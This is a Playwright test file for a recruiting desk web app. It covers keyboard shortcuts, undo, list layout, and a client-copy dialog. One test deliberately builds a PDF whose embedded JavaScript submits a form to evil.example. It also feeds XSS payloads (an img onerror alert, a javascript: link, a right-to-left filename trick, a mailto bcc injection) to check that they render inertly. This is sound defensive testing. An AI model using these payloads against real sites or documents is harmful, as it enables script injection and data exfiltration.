import { DEFAULT_DESK } from '../../contract/desk.ts';
import { ACTIVITY, AUDIENCE, FLAG } from '../../desk/page/meanings.ts';
import { docOf, docxOf, pdfWith } from '../fixtures/documents.ts';
import { fieldsOf, save } from '../fixtures/records.ts';
import { arrive, expect, keep, RECRUITER, record, rows, test } from './desk.ts';

/** Longer than a submission has to be open before it counts as seen. */
const A_MOMENT_MS = 2500;

/** The second stage; its key is 2. */
const [, TALKS] = DEFAULT_DESK.stages;

/** A PDF with scripts for when the document opens and closes, and for when its page opens. */
function scriptedPdf(): Uint8Array {
  const script =
    '<< /S /JavaScript /JS (app.alert("ran"); this.submitForm("http://evil.example/");) >>';
  return pdfWith([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${script} >> /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    '<< /Length 42 >>\nstream\nBT /F1 18 Tf 20 100 Td (Hello desk) Tj ET  \nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

test('[X18] [X26] the inbox by keyboard: read, note, tag, remind, finish, undo', async ({
  page,
  desk,
}) => {
  await page.clock.install();
  const [ada, bea, cyd] = [
    await arrive(desk, 'Ada'),
    await arrive(desk, 'Bea'),
    await arrive(desk, 'Cyd'),
  ];
  const { records } = desk.test.store;
  const title = record(page).getByRole('heading', { level: 1 });
  await expect(rows(page)).toHaveCount(3);

  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await expect(title).toHaveText('Bea Lovelace');
  await expect(page).toHaveURL(new RegExp(`#/open/${bea}$`));
  const seen = () =>
    Promise.all(
      [ada, bea, cyd].map(async (each) => (await records.record(each))?.seenAt !== undefined),
    );
  // U takes back what the page has done, also before the page has read the submission again.
  const readAgain = `**/submissions/${bea}`;
  await page.route(readAgain, () => undefined);
  // Passing by is not seeing, and standing still for a moment is. The page's clock may run before
  // the page has begun to wait.
  await expect(async () => {
    await page.clock.runFor(A_MOMENT_MS);
    expect(await seen()).toEqual([false, true, false]);
  }).toPass();
  await expect(rows(page).nth(1)).not.toContainText('unread');
  await page.keyboard.press('U');
  await expect.poll(seen).toEqual([false, false, false]);
  await page.unroute(readAgain);

  await page.keyboard.press('n');
  await page.keyboard.type('Call her on Monday');
  await page.keyboard.press('Control+Enter');
  await expect(record(page).getByRole('listitem').getByText('Call her on Monday')).toBeVisible();
  await page.keyboard.press('m');
  await expect(page.getByText(`Assigned to ${RECRUITER}`)).toBeVisible();
  // Undo takes back what was done last, one act at a time.
  await page.keyboard.press('u');
  await expect.poll(async () => (await records.record(bea))?.owner).toBe('');
  await page.keyboard.press('u');
  await expect
    .poll(async () => (await records.record(bea))?.notes)
    .toEqual([expect.objectContaining({ text: '', by: RECRUITER })]);

  // A suggested tag is taken, not the letters that were typed.
  await records.changeMany([cyd], { what: 'tag', word: 'remote' }, 'kim');
  await page.keyboard.press('t');
  await page.keyboard.type('re');
  await expect(page.getByRole('option', { name: 'remote' })).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(record(page).getByRole('listitem').getByText('remote')).toBeVisible();
  await page.keyboard.press('Escape');

  // A reminder takes it out of Open, and the next one is there.
  await page.keyboard.press('h');
  await page.getByRole('menuitem', { name: 'In a week' }).click();
  await expect(title).toHaveText('Ada Lovelace');
  await expect(rows(page)).toHaveText([/Cyd/, /Ada/]);
  // The last stage ends the work.
  await page.keyboard.press('e');
  await expect(title).toHaveText('Cyd Lovelace');
  await expect(rows(page)).toHaveText([/Cyd/]);
  await page.keyboard.press('2');
  await expect(page.getByText('All done')).toBeVisible();
  // It stays open until its reader leaves it.
  await expect(record(page).getByRole('button', { name: 'Stage' })).toHaveText(TALKS?.name ?? '');
  for (const [key, names] of [
    ['w', [/Cyd/, /Bea/]],
    ['d', [/Ada/]],
  ] as const) {
    await page.keyboard.press('g');
    await page.keyboard.press(key);
    await expect(rows(page)).toHaveText(names);
  }

  // People who speak their input turn single letters off.
  const letters = page.getByRole('switch', { name: 'Use single-key shortcuts' });
  await page.keyboard.press('?');
  await letters.uncheck();
  await page.keyboard.press('Escape');
  await page.keyboard.press('j');
  await page.reload();
  await page.getByRole('button', { name: 'Shortcuts' }).click();
  await expect(letters).not.toBeChecked();
  await expect(record(page)).toHaveCount(0);
});

test('[X18] letters after a choice by mouse change nothing else', async ({ page, desk }) => {
  const receipt = await arrive(desk, 'Ada');
  await desk.test.store.records.changeMany([receipt], { what: 'owner', to: 'Dana' }, 'kim');
  await page.goto(`/#/open/${receipt}`);
  await record(page).getByRole('button', { name: 'Owner' }).click();
  await page.getByRole('menuitem', { name: 'Me' }).click();
  await expect(page.getByText(`Assigned to ${RECRUITER}`)).toBeVisible();
  await page.keyboard.press('d');
  await page.keyboard.press('n');
  await page.keyboard.type('dn');
  const note = record(page).getByRole('textbox', { name: 'Note' });
  await expect(note).toHaveValue('dn');
  await record(page).getByRole('button', { name: 'Discard' }).click();
  await page.keyboard.press('u');
  await expect(note).toHaveValue('dn');
  await record(page).getByRole('button', { name: 'Discard' }).click();

  await record(page).getByRole('button', { name: 'Stage' }).click();
  await page.keyboard.press('Escape');
  await expect(page.getByRole('menu')).toHaveCount(0);

  // A form that is asked for before the submission is there takes no letters as shortcuts.
  const other = await arrive(desk, 'Bea');
  const typed = Promise.withResolvers<void>();
  await page.route(`**/submissions/${other}`, async (route) => {
    await typed.promise;
    await route.continue();
  });
  await page.goto(`/#/open/${other}`);
  await expect(record(page)).toHaveCount(0);
  await page.keyboard.press('n');
  await page.keyboard.type('3m');
  typed.resolve();
  await expect(record(page).getByRole('textbox', { name: 'Note' })).toBeFocused();
  expect(await desk.test.store.records.record(other)).toMatchObject({ owner: '', stage: 'new' });
  await record(page).getByRole('button', { name: 'Discard' }).click();

  await page.getByRole('button', { name: 'Filter', exact: true }).click();
  await page.getByRole('combobox', { name: 'Audience' }).click();
  await page.getByRole('option', { name: AUDIENCE.jobseeking }).click();
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');
  await page.keyboard.press('j');
  const chips = page.getByRole('group', { name: 'Active filters' });
  await expect(chips).toHaveText(AUDIENCE.jobseeking);
  await chips.getByRole('button', { name: `Remove filter ${AUDIENCE.jobseeking}` }).click();
  await expect(chips).toHaveCount(0);
  expect(await desk.test.store.records.record(receipt)).toMatchObject({ owner: RECRUITER });
});

test('[X18] the list has room for many rows on every screen', async ({ page, desk }) => {
  const first = await arrive(desk, 'Ada');
  for (let index = 0; index < 24; index++) await arrive(desk, `Bea${index}`);
  for (const [width, height, least] of [
    [1440, 900, 14],
    [1024, 768, 10],
    [390, 844, 8],
  ] as const) {
    await page.setViewportSize({ width, height });
    for (const hash of ['/#/open', ...(width > 390 ? [`/#/open/${first}`] : [])]) {
      await page.goto(hash);
      await expect(rows(page).first()).toBeVisible();
      const whole = () =>
        page.locator('ul:has([aria-posinset])').evaluate((list) => {
          const { top = 0, bottom = 0 } = list.parentElement?.getBoundingClientRect() ?? {};
          const boxes = [...list.children].map((row) => row.getBoundingClientRect());
          return boxes.filter((box) => box.top >= top && box.bottom <= bottom).length;
        });
      await expect.poll(whole).toBeGreaterThanOrEqual(least);
    }
  }
});

test('[X18] a visitor’s text stays text, and documents can’t run code', async ({ page, desk }) => {
  const files = [
    await keep(desk, scriptedPdf(), { flags: ['active-content'] }),
    await keep(desk, docxOf('Nine years of shaders'), { kind: 'docx', name: 'cv.docx' }),
    await keep(desk, docOf('Ten years of engines'), { kind: 'doc', name: 'cv.doc' }),
  ];
  const firstname = '<img src=x onerror=alert(1)>\u202Efdp.';
  const linkedin = 'javascript:alert(1)';
  const fields = fieldsOf('jobseeking', {
    firstname,
    linkedin,
    email: 'a@b.co?bcc=x@evil.example',
  });
  const receipt = await save(desk.test, { fields, files });
  page.on('dialog', () => expect(page.url()).toBe('no dialog'));

  await page.goto(`/#/open/${receipt}`);
  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText(
    `${firstname.replace('\u202E', '')} Lovelace`,
  );
  await expect(record(page).getByText(linkedin)).toBeVisible();
  await expect(record(page).locator('a[href^="javascript"], a[href^="mailto"]')).toHaveCount(0);
  await expect(record(page).getByText('Hello desk')).toBeAttached();
  await expect(record(page).getByText(FLAG['active-content'])).toBeVisible();
  for (const [name, words] of [
    ['cv.docx', 'Nine years of shaders'],
    ['cv.doc', 'Ten years of engines'],
  ] as const) {
    await record(page).getByRole('button', { name, exact: true }).click();
    const text = page.frameLocator(`iframe[title="${`Text of ${name}`}"]`);
    await expect(text.getByText(words)).toBeVisible();
  }

  const hostile = 'Nine years of <b>Shaders</b> <img src=x onerror=alert(1)>';
  await desk.test.store.documents.keep(files[1]?.id ?? '', hostile);
  await page.goto('/#/open?search=shad');
  await expect(rows(page).locator('mark')).toHaveText('Shaders');
  await expect(rows(page)).toContainText(`In a document:${hostile}`);
  await expect(rows(page).locator('img')).toHaveCount(0);
});

test('[X27] a client’s copy is text that a recruiter checks, changes, and copies', async ({
  page,
  desk,
}) => {
  const resume = docxOf('May Doe\nmay@doe.example\nRay tracing at Nordlicht since May 2014.');
  const receipt = await arrive(desk, 'May', {
    fields: fieldsOf('jobseeking', { firstname: 'May', lastname: 'Doe' }),
    files: [await keep(desk, resume, { kind: 'docx', name: 'MayDoe.docx' })],
  });
  await page.goto(`/#/open/${receipt}`);
  await expect(record(page).getByText('MayDoe.docx')).toBeVisible();
  await page.keyboard.press('c');
  const dialog = page.getByRole('dialog', { name: 'Client copy' });
  const text = dialog.getByRole('textbox', { name: 'Text for the client' });
  await expect(text).toHaveValue(/Ray tracing at Nordlicht/);
  await expect(text).not.toHaveValue(/doe/i);
  await text.fill('Ray tracing since May 2014.');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await dialog.getByRole('button', { name: 'Copy text' }).click();
  await expect(page.getByText('Copied')).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    'Ray tracing since May 2014.',
  );
  await page.keyboard.press('Escape');
  await expect(record(page).getByText(`${RECRUITER} ${ACTIVITY.copy}`)).toBeVisible();
});
